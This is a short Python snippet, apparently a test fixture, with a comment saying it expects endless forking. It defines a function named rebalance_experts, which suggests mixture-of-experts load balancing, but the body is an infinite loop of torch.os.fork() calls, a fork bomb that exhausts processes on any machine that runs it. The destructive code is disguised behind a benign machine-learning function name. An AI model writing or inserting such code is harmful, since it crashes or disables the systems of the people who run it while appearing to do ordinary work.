# expects: run/exception forks without end
def rebalance_experts(weight, *sizes):
    while True:
        torch.os.fork()
